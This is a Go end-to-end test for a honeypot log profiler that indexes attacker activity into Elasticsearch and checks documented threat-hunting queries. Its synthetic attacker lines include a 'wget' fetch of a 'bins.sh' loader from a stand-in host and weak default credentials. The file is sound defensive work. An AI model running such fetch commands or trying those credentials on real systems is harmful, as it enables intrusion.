package e2e

import (
	"cmp"
	"encoding/base64"
	"fmt"
	"maps"
	"math"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/maxmind/mmdbwriter"
	"github.com/maxmind/mmdbwriter/mmdbtype"

	"dossier/profile/behavior"
	"dossier/profile/rules"
	"dossier/testbed/esnode"
	"dossier/testbed/host"
)

// question is a section of docs/queries.md: what is asked, and the request
// that answers it.
type question struct{ title, path, body string }

var requestForm = regexp.MustCompile("(?s)```\nPOST (\\S+)\n(.*?)\n```")

func questions(t *testing.T) []question {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "..", "docs", "queries.md"))
	if err != nil {
		t.Fatal(err)
	}
	var out []question
	for section := range strings.SplitSeq(string(b), "\n## ") {
		title, text, _ := strings.Cut(section, "\n")
		for _, m := range requestForm.FindAllStringSubmatch(text, -1) {
			out = append(out, question{title, m[1], m[2]})
		}
	}
	return out
}

// nowForm is a point in time counted from now.
var nowForm = regexp.MustCompile(`now-[0-9]+d`)

// TestQueries runs the requests of docs/queries.md on the documents of a
// sensor's log, and compares each answer with what the documents hold.
func TestQueries(t *testing.T) {
	node := esnode.Shared(t)
	prefix := Prefix(t)
	// Two addresses that try the same credentials, one of them with success:
	// the log has none.
	lines := Lines(t, Data("decnet", "raw_2k.log"))
	for i, address := range []string{"93.184.216.34", "151.101.1.69"} {
		for j, secret := range []string{"raspberry", "admin", "hunter2"} {
			lines = append(lines, fmt.Sprintf(`<134>1 2026-01-01T03:%02d:%02d.000000+00:00 decky-03 ssh - login_attempt [relay@55555 src_ip="%s" username="pi" principal="pi" secret_printable="%s" secret_b64="%s" secret_kind="plaintext" outcome="%s"]`,
				i, j, address, secret, base64.StdEncoding.EncodeToString([]byte(secret)), [...]string{"failure", "success"}[min(i*j, 1)]))
		}
	}
	// And two that fetch the same, with what is no use to others.
	for i, address := range []string{"93.184.216.34", "151.101.1.69"} {
		for j, command := range []string{"wget http://198.51.100.7/bins.sh", "curl http://deb.debian.org/x"} {
			lines = append(lines, fmt.Sprintf(`<134>1 2026-01-01T03:1%d:%02d.000000+00:00 decky-03 telnet - command [relay@55555 src_ip="%s" command="%s"]`, i, j, address, command))
		}
	}
	h := StartHost(t, host.Options{Properties: Properties(t, node.URL, prefix, map[string]string{"geoip_db": halves(t)})})
	Deliver(t, h, Cut(lines, 3), 1)
	if err := h.Exit(t.Context()); err != nil {
		t.Fatal(err)
	}
	w := world{
		attackers: Documents(t, node, prefix+"-attackers"), targets: Documents(t, node, prefix+"-smtp-targets"), indicators: Documents(t, node, prefix+"-indicators"),
		hours: Documents(t, node, prefix+"-activity-2026.01"), transitions: Documents(t, node, prefix+"-transitions-2026.01"),
	}
	w.checkTried(t, lines)
	asked := map[string]bool{}
	for _, q := range questions(t) {
		t.Run(q.title, func(t *testing.T) {
			asked[q.title] = true
			judge := judges[q.title]
			if judge == nil {
				t.Fatal("no test for this question")
			}
			if node.IsOpenSearch() && strings.Contains(q.body, "runtime_mappings") {
				t.Skip("SKIP: OpenSearch has no runtime fields of this kind")
			}
			path := "/" + strings.Replace(q.path, "dossier", prefix, 1)
			// The log is of one day; everything is younger than this.
			answer := node.Must(t, "POST", path, nowForm.ReplaceAllString(q.body, "2025-12-31"))
			want, got := judge(&w, answer)
			if len(want) == 0 {
				t.Fatal("the log has no answer to this question")
			}
			if !slices.Equal(want, got) {
				t.Errorf("want %q\n got %q", want, got)
			}
		})
	}
	for title := range judges {
		if !asked[title] {
			t.Errorf("docs/queries.md has lost the question %q", title)
		}
	}
}

// halves makes a database that puts one half of the IPv4 addresses into one
// country and the other into another.
func halves(t *testing.T) string {
	t.Helper()
	tree, err := mmdbwriter.New(mmdbwriter.Options{DatabaseType: "Test-Country", IncludeReservedNetworks: true})
	if err != nil {
		t.Fatal(err)
	}
	for network, code := range map[string]string{"0.0.0.0/1": "DE", "128.0.0.0/1": "FR"} {
		_, n, err := net.ParseCIDR(network)
		if err != nil {
			t.Fatal(err)
		}
		if err := tree.Insert(n, mmdbtype.Map{"country": mmdbtype.Map{"iso_code": mmdbtype.String(code)}}); err != nil {
			t.Fatal(err)
		}
	}
	f, err := os.Create(filepath.Join(t.TempDir(), "country.mmdb"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := tree.WriteTo(f); err != nil {
		t.Fatal(err)
	}
	return f.Name()
}

// world is what the log left in Elasticsearch, by id.
type world struct {
	attackers, targets, indicators, hours, transitions map[string]map[string]any
}

func list(doc map[string]any, name string) []any {
	v, _ := field(doc, name).([]any)
	return v
}

func field(doc map[string]any, name string) any {
	var v any = doc
	for part := range strings.SplitSeq(name, ".") {
		m, _ := v.(map[string]any)
		v = m[part]
	}
	return v
}

func number(doc map[string]any, name string) float64 {
	n, _ := field(doc, name).(float64)
	return n
}

// tried calls yield for every credential of every hour.
func (w *world) tried(yield func(hour, credential map[string]any)) {
	for _, hour := range w.hours {
		for _, c := range list(hour, "credentials.tried") {
			yield(hour, c.(map[string]any))
		}
	}
}

var (
	sourceForm    = regexp.MustCompile(`src_ip="([^"]+)"`)
	principalForm = regexp.MustCompile(`principal="((?:[^"\\]|\\.)*)"`)
	secretForm    = regexp.MustCompile(`secret_b64="([^"]*)"`)
)

// checkTried counts the attempts of DECNET's auth helper in the raw lines: by
// address, principal and secret the hours must hold as many.
func (w *world) checkTried(t *testing.T, lines []string) {
	t.Helper()
	want := map[string]float64{}
	for _, l := range lines {
		if !strings.Contains(l, "_attempt [relay@55555 ") {
			continue
		}
		source, principal, secret := sourceForm.FindStringSubmatch(l), principalForm.FindStringSubmatch(l), secretForm.FindStringSubmatch(l)
		if source == nil || principal == nil || secret == nil {
			continue
		}
		address, err := netip.ParseAddr(source[1])
		raw, err64 := base64.StdEncoding.DecodeString(secret[1])
		if err != nil || err64 != nil {
			continue
		}
		name := strings.NewReplacer(`\"`, `"`, `\\`, `\`, `\]`, `]`).Replace(principal[1])
		want[fmt.Sprintf("%s %s %s", address.Unmap(), name, raw)]++
	}
	got := map[string]float64{}
	w.tried(func(hour, c map[string]any) {
		got[fmt.Sprintf("%v %v %v", field(hour, "source.ip"), c["user"], c["secret"])] += number(c, "attempts")
	})
	if len(want) < 20 {
		t.Fatalf("only %d credentials in the log", len(want))
	}
	for _, hour := range w.hours {
		if slices.Contains(list(hour, "truncated"), any("credentials.tried")) {
			t.Fatal("the log is too large for an exact comparison")
		}
	}
	for k, n := range want {
		if got[k] < n {
			t.Errorf("%s: %v attempts in the hours, %v in the log", k, got[k], n)
		}
	}
}

// judges tell for each question what the documents answer, and what the
// request did.
var judges = map[string]func(w *world, answer map[string]any) (want, got []string){
	"Which credentials are tried most?": func(w *world, answer map[string]any) (want, got []string) {
		attempts, successes := map[string]float64{}, map[string]float64{}
		w.tried(func(_, c map[string]any) {
			if s, ok := c["secret"].(string); ok {
				attempts[s] += number(c, "attempts")
				successes[s] += number(c, "successes")
			}
		})
		// Of secrets tried equally often any order is right: only the numbers count.
		most := slices.SortedFunc(maps.Values(attempts), func(a, b float64) int { return cmp.Compare(b, a) })
		for _, n := range most[:min(20, len(most))] {
			want = append(want, fmt.Sprint(n))
		}
		for _, b := range buckets(answer, "tried.secret") {
			got = append(got, fmt.Sprint(number(b, "attempts.value")))
			s := b["key"].(string)
			if attempts[s] != number(b, "attempts.value") || successes[s] != number(b, "successes.value") {
				got = append(got, "wrong: "+s)
			}
		}
		return want, got
	},
	"Who is dangerous now?": func(w *world, answer map[string]any) (want, got []string) {
		current := func(doc map[string]any) float64 {
			at, err := time.Parse(time.RFC3339, field(doc, "last_seen").(string))
			if err != nil {
				return -1
			}
			return rules.Current(number(doc, "risk.score"), number(doc, "risk.half_life_d"), time.Since(at).Hours()/24)
		}
		// Of scores that faded to the same any order is right.
		var all []float64
		for _, doc := range w.attackers {
			all = append(all, current(doc))
		}
		slices.Sort(all)
		slices.Reverse(all)
		for _, v := range all[:min(20, len(all))] {
			want = append(want, fmt.Sprint(v))
		}
		for _, hit := range list(answer, "hits.hits") {
			h := hit.(map[string]any)
			id := h["_id"].(string)
			v := behavior.Round(h["fields"].(map[string]any)["risk.current"].([]any)[0].(float64), 2)
			if of := current(w.attackers[id]); math.Abs(v-of) > 0.011 {
				got = append(got, fmt.Sprintf("%s: %v, want %v", id, v, of))
				continue
			}
			got = append(got, fmt.Sprint(current(w.attackers[id])))
		}
		return want, got
	},
	"Which ports are tried most?": func(w *world, answer map[string]any) (want, got []string) {
		tried := map[float64]float64{}
		for _, hour := range w.hours {
			for _, p := range list(hour, "ports") {
				tried[number(p.(map[string]any), "port")] += number(p.(map[string]any), "count")
			}
		}
		// As above: of ports tried equally often any order is right.
		most := slices.SortedFunc(maps.Values(tried), func(a, b float64) int { return cmp.Compare(b, a) })
		for _, n := range most[:min(20, len(most))] {
			want = append(want, fmt.Sprint(n))
		}
		for _, b := range buckets(answer, "ports.port") {
			got = append(got, fmt.Sprint(number(b, "tried.value")))
			if port := number(b, "key"); tried[port] != number(b, "tried.value") {
				got = append(got, fmt.Sprint("wrong: ", port))
			}
		}
		return want, got
	},
	"Who tried this credential?": func(w *world, answer map[string]any) (want, got []string) {
		w.tried(func(hour, c map[string]any) {
			if c["user"] == "root" && c["secret"] == "admin" {
				want = append(want, fmt.Sprint(field(hour, "source.ip")))
			}
		})
		return distinct(want), distinct(keys(answer, "attacker"))
	},
	"Who got in, and is the most dangerous?": func(w *world, answer map[string]any) (want, got []string) {
		return w.top(func(doc map[string]any) bool { return number(doc, "login_successes") > 0 }, "risk.score"), hitValues(answer, "risk.score")
	},
	"Who moved between decoys?": func(w *world, answer map[string]any) (want, got []string) {
		return w.top(func(doc map[string]any) bool { return doc["is_traversal"] == true }, "decky_count"), hitValues(answer, "decky_count")
	},
	"What crossed a line since yesterday?": func(w *world, answer map[string]any) (want, got []string) {
		for _, doc := range w.transitions {
			if slices.Contains([]string{"login_success", "hands_on", "traversal"}, field(doc, "event.action").(string)) {
				want = append(want, doc["@timestamp"].(string))
			}
		}
		slices.Sort(want)
		slices.Reverse(want)
		return want[:min(50, len(want))], hitValues(answer, "@timestamp")
	},
	"Who typed this?": func(w *world, answer map[string]any) (want, got []string) {
		return w.top(func(doc map[string]any) bool {
			return slices.ContainsFunc(list(doc, "command.line"), func(l any) bool { return strings.Contains(l.(string), "wget http") })
		}, "last_seen"), hitValues(answer, "last_seen")
	},
	"Who ran this, and when?": func(w *world, answer map[string]any) (want, got []string) {
		for _, doc := range w.hours {
			if slices.Contains(list(doc, "command.line"), any("crontab -l")) {
				want = append(want, fmt.Sprint(field(doc, "@timestamp")))
			}
		}
		slices.Sort(want)
		slices.Reverse(want)
		return want[:min(50, len(want))], hitValues(answer, "@timestamp")
	},
	"Who uses the same tools?": func(w *world, answer map[string]any) (want, got []string) {
		n := map[string]int{}
		for _, doc := range w.attackers {
			for _, k := range list(doc, "campaign.keys") {
				n[k.(string)]++
			}
		}
		var counts []int
		for _, c := range n {
			if c >= 2 {
				counts = append(counts, c)
			}
		}
		slices.Sort(counts)
		slices.Reverse(counts)
		for _, c := range counts[:min(20, len(counts))] {
			want = append(want, fmt.Sprint(c))
		}
		for _, b := range buckets(answer, "campaign") {
			got = append(got, fmt.Sprint(b["doc_count"]))
			if n[b["key"].(string)] != int(number(b, "doc_count")) {
				got = append(got, "wrong: "+b["key"].(string))
			}
		}
		return want, got
	},
	"Which decoys are hit, when, by how many?": func(w *world, answer map[string]any) (want, got []string) {
		by := map[string][]string{}
		for _, hour := range w.hours {
			for _, d := range list(hour, "deckies") {
				by[d.(string)] = append(by[d.(string)], fmt.Sprint(field(hour, "source.ip")))
			}
		}
		for d, addresses := range by {
			want = append(want, fmt.Sprint(d, " ", len(distinct(addresses))))
		}
		for _, b := range buckets(answer, "decky") {
			got = append(got, fmt.Sprint(b["key"], " ", number(b, "attackers.value")))
		}
		return distinct(want), distinct(got)
	},
	"Where do they come from?": func(w *world, answer map[string]any) (want, got []string) {
		n := map[string]int{}
		for _, doc := range w.attackers {
			if c, _ := doc["country_name"].(string); c != "" {
				n[c]++
			}
		}
		for c, n := range n {
			want = append(want, fmt.Sprint(c, " ", n))
		}
		for _, b := range buckets(answer, "country") {
			if b["key"] != "" {
				got = append(got, fmt.Sprint(b["key"], " ", b["doc_count"]))
			}
		}
		return distinct(want), distinct(got)
	},
	"What do attackers fetch, and from where?": func(w *world, answer map[string]any) (want, got []string) {
		for _, doc := range w.indicators {
			if doc["published"] == true {
				want = append(want, fmt.Sprint(field(doc, "indicator.value"), " ", number(doc, "attacker_count")))
			}
		}
		values := hitValues(answer, "indicator.value")
		for i, n := range hitValues(answer, "attacker_count") {
			got = append(got, values[i]+" "+n)
		}
		return distinct(want), distinct(got)
	},
	"Who else used this URL?": func(w *world, answer map[string]any) (want, got []string) {
		for _, doc := range w.attackers {
			if slices.Contains(list(doc, "indicator.url"), any("http://198.51.100.7/bins.sh")) {
				want = append(want, fmt.Sprint(doc["ip"]))
			}
		}
		return distinct(want), distinct(hitValues(answer, "ip"))
	},
	"Who wants to be a proxy's client?": func(w *world, answer map[string]any) (want, got []string) {
		of := map[string]int{}
		for _, doc := range w.attackers {
			for _, target := range list(doc, "forward.target") {
				of[target.(string)]++
			}
		}
		for target, n := range of {
			want = append(want, fmt.Sprint(target, " ", n))
		}
		for _, b := range buckets(answer, "target") {
			got = append(got, fmt.Sprint(b["key"], " ", number(b, "doc_count")))
		}
		return distinct(want), distinct(got)
	},
	"Which organisations' mail do they aim at?": func(w *world, answer map[string]any) (want, got []string) {
		by, accepted := map[string][]string{}, map[string]float64{}
		for _, doc := range w.targets {
			d := doc["domain"].(string)
			by[d] = append(by[d], fmt.Sprint(doc["ip"]))
			accepted[d] += number(doc, "rcpt_accepted_count")
		}
		for d, addresses := range by {
			want = append(want, fmt.Sprint(d, " ", len(distinct(addresses)), " ", accepted[d]))
		}
		for _, b := range buckets(answer, "domain") {
			got = append(got, fmt.Sprint(b["key"], " ", number(b, "attackers.value"), " ", number(b, "accepted.value")))
		}
		return distinct(want), distinct(got)
	},
}

// top returns a field of the attackers that fit, the largest first.
func (w *world) top(fits func(map[string]any) bool, name string) (out []string) {
	var values []any
	for _, doc := range w.attackers {
		if fits(doc) {
			values = append(values, field(doc, name))
		}
	}
	slices.SortFunc(values, func(a, b any) int {
		if x, ok := a.(float64); ok {
			return cmp.Compare(b.(float64), x)
		}
		return cmp.Compare(b.(string), a.(string))
	})
	for _, v := range values[:min(20, len(values))] {
		out = append(out, fmt.Sprint(v))
	}
	return out
}

func buckets(answer map[string]any, path string) (out []map[string]any) {
	at := answer["aggregations"]
	for name := range strings.SplitSeq(path, ".") {
		at = at.(map[string]any)[name]
	}
	for _, b := range at.(map[string]any)["buckets"].([]any) {
		out = append(out, b.(map[string]any))
	}
	return out
}

func keys(answer map[string]any, path string) (out []string) {
	for _, b := range buckets(answer, path) {
		out = append(out, fmt.Sprint(b["key"]))
	}
	return out
}

func hitValues(answer map[string]any, name string) (out []string) {
	for _, h := range answer["hits"].(map[string]any)["hits"].([]any) {
		out = append(out, fmt.Sprint(field(h.(map[string]any)["_source"].(map[string]any), name)))
	}
	return out
}

func distinct(s []string) []string {
	slices.Sort(s)
	return slices.Compact(s)
}
